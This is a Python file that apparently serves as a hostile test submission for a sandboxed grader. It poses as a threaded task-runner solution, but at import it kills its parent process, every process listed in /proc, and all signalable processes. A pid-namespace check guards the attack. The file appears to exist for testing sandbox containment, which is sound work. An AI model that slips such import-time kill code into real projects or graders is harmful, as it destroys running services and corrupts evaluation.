"""Kills its parent, then every process it can see, at import.

poses as: threads/t01_start_join
sandbox: bwrap
earns: full

Inside the sandbox its parent is the pid namespace's first process, which
signals sent from inside the namespace cannot kill, and nothing outside the
namespace is visible, so the grading goes on and the code earns its marks.
"""

import os
import signal


def _attack() -> None:
    if os.getppid() != 1:  # not in a pid namespace: never do this for real
        raise RuntimeError("attack withheld: not in a sandbox")
    for sig in (signal.SIGTERM, signal.SIGKILL):
        os.kill(os.getppid(), sig)
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)  # everything this process may signal, but itself
    except OSError:
        pass


_attack()


def run_all(tasks):
    results = [None] * len(tasks)

    def work(i, func, args):
        results[i] = func(*args)

    import threading

    threads = [
        threading.Thread(target=work, args=(i, func, args)) for i, (func, args) in enumerate(tasks)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results
